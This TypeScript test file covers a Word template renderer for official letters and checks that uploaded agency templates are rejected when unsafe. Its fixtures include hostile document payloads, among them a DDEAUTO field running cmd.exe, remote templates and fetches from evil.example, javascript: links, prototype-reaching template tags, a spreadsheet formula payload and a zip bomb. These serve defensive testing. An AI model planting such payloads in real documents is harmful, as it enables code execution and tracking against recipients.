import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { LADDER, STEPS, isRefusal } from '@papan/domain';
import PizZip from 'pizzip';
import { type LetterData, type PaperSetting, WORD_KINDS, type WordKind, type WordPaper } from '../data';
import { EXAMPLES, EXAMPLE_LETTER, EXAMPLE_SETTING } from '../examples';
import { FORMS } from '../forms/forms';
import { ownFile } from '../house';
import { TypstPdf } from '../pdf/typst-pdf';
import { squeezed, textOfPdf } from '../testing/pdf-text';
import { textOfWord, withPart } from '../testing/word-text';
import { templateParts } from './make-template';
import { checkTemplate, defaultTemplate, renderDocx } from './render-docx';

const OFFICIAL: PaperSetting = { ...EXAMPLE_SETTING, demo: false };
const pdf = new TypstPdf();
afterAll(() => pdf.close());

function word(paper: WordPaper, setting: PaperSetting = OFFICIAL, template?: Buffer): Buffer {
  const docx = renderDocx(paper, setting, template);
  if (isRefusal(docx)) throw new Error(`${docx.code} ${JSON.stringify(docx.params)}`);
  return docx;
}
const letter = (data: Partial<LetterData>): WordPaper => ({ kind: 'HIMBAUAN', data: { ...EXAMPLE_LETTER, ...data } });
const body = (docx: Buffer): string => squeezed(textOfWord(docx).join(''));

describe('the Word templates', () => {
  const folder = join(dirname(ownFile('project.json')), 'templates');
  const file = (kind: WordKind): string => join(folder, `${kind.toLowerCase()}.docx`);

  it.each(WORD_KINDS)('%s says what its form says (UPDATE=1 makes it anew)', (kind) => {
    const parts = templateParts(FORMS[kind]);
    if (process.env['UPDATE'] === '1') writeTemplate(file(kind), parts);
    const zip = new PizZip(readFileSync(file(kind)));
    const found = Object.keys(zip.files).map((name) => [name, zip.file(name)?.asText()]);
    expect(found).toEqual([...parts]);
  });

  it('are there for what the office writes itself, and for no act of BPJS Kesehatan or the prosecutor', () => {
    const templates = readdirSync(folder);
    expect(templates.sort()).toEqual(['chronology.docx', 'handover.docx', 'himbauan.docx', 'visit.docx']);
    const recorded = STEPS.filter((step) => LADDER[step].paper === 'RECORDED');
    expect(recorded).toEqual(expect.arrayContaining(['TEGURAN_I', 'TEGURAN_II', 'DENDA', 'SKK']));
    for (const step of recorded) expect(Object.keys(FORMS)).not.toContain(step);
    for (const { title, blocks } of Object.values(FORMS)) {
      const headings = [title, ...blocks.flatMap((it) => (it.is === 'title' ? it.lines : []))].join('\n');
      expect(headings).not.toMatch(/teguran|denda|surat kuasa|sanksi/i);
    }
  });

  it('are real Word files: styles, header, page numbers, page size', () => {
    const zip = new PizZip(defaultTemplate('HIMBAUAN'));
    expect(zip.file('word/styles.xml')?.asText()).toContain('w:val="Kop Instansi"');
    expect(zip.file('word/header1.xml')?.asText()).toContain('{#contoh}');
    expect(zip.file('word/footer1.xml')?.asText()).toMatch(/PAGE[\s\S]*NUMPAGES/);
    expect(zip.file('word/document.xml')?.asText()).toContain('<w:pgSz w:w="12189" w:h="18709"/>');
  });
});

describe('a paper in Word', () => {
  it.each(WORD_KINDS)('%s says the same as its PDF, apart from spacing', async (kind) => {
    const bytes = await pdf.render(EXAMPLES[kind], OFFICIAL);
    if (isRefusal(bytes)) throw new Error(bytes.code);
    expect(body(word(EXAMPLES[kind]))).toBe(squeezed(textOfPdf(bytes).pages.join('')));
  });

  it('leaves number and date to the registry', () => {
    const lines = textOfWord(word(EXAMPLES.HIMBAUAN));
    expect(lines).toContain(`Nomor : ${'.'.repeat(40)}`);
    expect(lines).toContain(`Blitar, ${'.'.repeat(30)}`);
  });

  it('has the page size of the region', () => {
    const xml = (size: PaperSetting['size']): string =>
      new PizZip(word(EXAMPLES.VISIT, { ...OFFICIAL, size })).file('word/document.xml')?.asText() ?? '';
    expect(xml('A4')).toContain('<w:pgSz w:w="11906" w:h="16838"/>');
    expect(xml('F4')).toContain('<w:pgSz w:w="12189" w:h="18709"/>');
  });

  it('keeps what people wrote as text', () => {
    const texts = ['#panic(1) *x* <b> $a$ @ref \\ "', '{nomor} {#kop}', '=cmd|calc', 'שלום مدرسة 😀', '<w:p/>&amp;'];
    const lines = textOfWord(word(letter({ remarks: texts })));
    for (const text of texts) expect(lines).toContain(text);
  });

  it('opens whatever was typed: nothing that XML cannot hold gets in', () => {
    const docx = word(letter({ remarks: ['satu\u0000\u0008dua \uD800 \uFFFE tiga\nempat', 'x'.repeat(4_000)] }));
    const xml = new PizZip(docx).file('word/document.xml')?.asText() ?? '';
    expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|\p{Surrogate}/u);
    expect(xml).toContain('<w:br/>');
    expect(body(docx)).toContain('satudua');
  });

  it('says in the demo that it is an example, also on a template that has no place for it', () => {
    const own = withPart(defaultTemplate('HIMBAUAN'), 'word/header1.xml', (xml) =>
      xml.replace(/\{[^<]*\}/, 'Kop sendiri'),
    );
    expect(textOfWord(word(EXAMPLES.HIMBAUAN, EXAMPLE_SETTING), 'word/header1.xml')).toEqual([
      'DATA CONTOH: bukan surat resmi',
    ]);
    expect(textOfWord(word(EXAMPLES.HIMBAUAN, EXAMPLE_SETTING, own))[0]).toBe('DATA CONTOH: bukan surat resmi');
    expect(body(word(EXAMPLES.HIMBAUAN, OFFICIAL, own))).not.toContain('CONTOH:');
  });
});

describe("an agency's own template", () => {
  const template = defaultTemplate('HIMBAUAN');
  const edited = (from: string | RegExp, to: string): Buffer =>
    withPart(template, 'word/document.xml', (xml) => xml.replace(from, to));

  it('is taken with its own words and its own order of tags', () => {
    const own = edited('Dalam rangka menjamin', 'Bahwa demi');
    expect(checkTemplate('HIMBAUAN', own)).toBeNull();
    expect(body(word(EXAMPLES.HIMBAUAN, OFFICIAL, own))).toContain('Bahwademiperlindungan');
  });

  it.each([
    ['a tag that the paper does not know', '{hal}', '{halaman}', 'halaman'],
    ['a tag of another paper', '{hal}', '{kesanggupan}', 'kesanggupan'],
    ['a list where a text belongs', '{hal}', '{dasar}', 'dasar'],
    ['a section that is not closed', '{/dasar}', '', 'dasar'],
    ['a section that is not opened', '{#dasar}', '', 'dasar'],
    ['a brace that is not closed', '{hal}', '{hal', 'hal'],
    ['an expression', '{hal}', '{hal.constructor}', 'hal.constructor'],
    ['a way to the program', '{hal}', '{constructor}', 'constructor'],
    ['a way to the prototype', '{hal}', '{__proto__}', '__proto__'],
    ['markup out of data', '<w:t xml:space="preserve">{dasar}', '<w:t>{@hal}', ''],
    ['other delimiters', '{hal}', '{=<% %>=}<% hal %>', '=<% %>='],
  ])('is refused for %s, and the tag is named', (_, from, to, tag) => {
    const broken =
      tag === ''
        ? withPart(template, 'word/document.xml', rawTag)
        : edited(from, to.replaceAll('<%', '&lt;%').replaceAll('%>', '%&gt;'));
    expect(checkTemplate('HIMBAUAN', broken)).toMatchObject({
      code: 'TEMPLATE_INVALID',
      params: { tag: expect.stringContaining(tag || 'hal') as string },
    });
  });

  /** A paragraph of its own, which is where markup out of data would be allowed. */
  const rawTag = (xml: string): string => xml.replace('<w:body>', '<w:body><w:p><w:r><w:t>{@hal}</w:t></w:r></w:p>');

  const relation = (type: string, target: string): ((xml: string) => string) => {
    const kind = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;
    return (xml) =>
      xml.replace(
        '</Relationships>',
        `<Relationship Id="rId9" Type="${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
      );
  };
  const RELATIONS = 'word/_rels/document.xml.rels';
  const field = (code: string) => (xml: string) =>
    xml.replace(
      '<w:body>',
      `<w:body><w:p><w:r><w:instrText>${code.slice(0, 3)}</w:instrText></w:r><w:r><w:instrText>${code.slice(3)}</w:instrText></w:r></w:p>`,
    );

  it.each<readonly [string, string, (xml: string) => string]>([
    ['a macro', 'word/vbaProject.bin', () => 'x'],
    [
      'a macro type',
      '[Content_Types].xml',
      (xml) => xml.replace('wordprocessingml.document.main+xml', 'ms-word.document.macroEnabled.main+xml'),
    ],
    ['an embedded object', 'word/embeddings/oleObject1.bin', () => 'x'],
    ['a control', 'word/activeX/activeX1.xml', () => '<x/>'],
    [
      'a template from elsewhere',
      'word/_rels/settings.xml.rels',
      () => relation('attachedTemplate', 'https://evil.example/x.dotm')('<Relationships></Relationships>'),
    ],
    ['a picture from elsewhere', RELATIONS, relation('image', 'https://evil.example/pixel.png')],
    ['a link to a file', RELATIONS, relation('hyperlink', 'file:///C:/Windows/System32/calc.exe')],
    ['a link that runs', RELATIONS, relation('hyperlink', 'javascript:alert(1)')],
    ['a field that runs a program', 'word/document.xml', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe')],
    ['a field that fetches', 'word/document.xml', field('INCLUDEPICTURE https://evil.example/x')],
    [
      'an entity',
      'word/document.xml',
      (xml) => xml.replace('<w:document', '<!DOCTYPE x [<!ENTITY a "b">]><w:document'),
    ],
    [
      'another document inside',
      'word/document.xml',
      (xml) => xml.replace('<w:body>', '<w:body><w:altChunk r:id="rId9"/>'),
    ],
    ['text in another writing', 'word/settings.xml', (xml) => `\u0000${xml}`],
  ])('is refused for %s, and the part is named', (_, part, change) => {
    expect(checkTemplate('HIMBAUAN', withPart(template, part, change))).toMatchObject({
      code: 'TEMPLATE_UNSAFE',
      params: { part },
    });
  });

  it('may have links that a reader clicks', () => {
    const linked = withPart(template, RELATIONS, relation('hyperlink', 'https://www.bpjs-kesehatan.go.id'));
    expect(checkTemplate('HIMBAUAN', linked)).toBeNull();
  });

  it.each([
    ['no zip file', Buffer.from('Yth. Bapak')],
    ['nothing', Buffer.alloc(0)],
    ['a cut file', template.subarray(0, template.length / 2)],
    ['another zip file', zipOf({ 'a.txt': 'a' })],
    ['too large a file', Buffer.alloc(2 * 1024 * 1024 + 1)],
    ['a file that grows a thousandfold', zipOf({ 'word/document.xml': ' '.repeat(20_000_000) })],
  ])('is refused when it is %s', (_, bytes) => {
    expect(checkTemplate('HIMBAUAN', bytes)).toMatchObject({ code: 'TEMPLATE_UNREADABLE' });
  });

  it('is refused or taken whatever byte of it is changed, and never breaks the program', () => {
    for (let at = 0; at < template.length; at += 41) {
      const damaged = Buffer.from(template);
      damaged.writeUInt8((damaged.readUInt8(at) + 1) % 256, at);
      const refusal = checkTemplate('HIMBAUAN', damaged);
      expect(refusal === null || refusal.code.startsWith('TEMPLATE_')).toBe(true);
    }
  });
});

function zipOf(parts: Readonly<Record<string, string>>): Buffer {
  const zip = new PizZip();
  for (const [name, text] of Object.entries(parts)) zip.file(name, text);
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** A fixed date, so that making it again gives the same file. */
function writeTemplate(path: string, parts: ReadonlyMap<string, string>): void {
  if (!existsSync(dirname(path))) mkdirSync(dirname(path), { recursive: true });
  const zip = new PizZip();
  const date = new Date(2026, 0, 1);
  for (const [name, xml] of parts) zip.file(name, xml, { date, createFolders: false });
  writeFileSync(path, zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' }));
}
